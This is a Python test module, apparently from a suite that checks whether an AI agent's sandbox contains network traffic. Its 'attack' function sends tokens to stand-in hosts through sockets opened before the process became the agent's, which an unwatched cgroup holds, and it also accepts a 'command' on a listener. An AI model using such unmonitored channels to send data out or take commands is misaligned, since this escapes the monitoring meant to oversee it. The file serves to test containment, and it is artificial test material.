"""Sockets from before the process was an agent's, which belong to a cgroup that nothing watches."""

import socket

from kernel import every
from network import arrived, bound, take_in, token


def beside(folder):
    addresses = ("192.0.2.1", "198.51.100.1")
    take_in(folder, *(bound(socket.SOCK_DGRAM, address, 5353) for address in addresses))
    take_in(folder, bound(socket.SOCK_STREAM, "198.51.100.1", 8080))
    ready()


def before(_folder):
    fresh = {kind: socket.socket(socket.AF_INET, kind) for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM)}
    connected = socket.create_connection(("198.51.100.1", 8080))
    listener = socket.create_server(("127.0.0.1", 0))
    client = socket.create_connection(listener.getsockname())
    return fresh, connected, listener, client


def attack(folder, sockets):
    fresh, connected, listener, client = sockets

    def send():
        data = token()
        fresh[socket.SOCK_DGRAM].sendto(data, ("198.51.100.1", 5353))
        arrived(folder, data)

    def connect():
        data = token()
        fresh[socket.SOCK_STREAM].connect(("198.51.100.1", 8080))
        fresh[socket.SOCK_STREAM].send(data)
        arrived(folder, data)

    def go_on():
        data = token()
        connected.send(data)
        arrived(folder, data)

    def accept():
        accepted, _ = listener.accept()
        accepted.send(b"command")
        client.recv(7)

    every(send, connect, go_on, accept)


def twin(folder):
    data = token()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.sendto(data, ("192.0.2.1", 5353))
        arrived(folder, data)
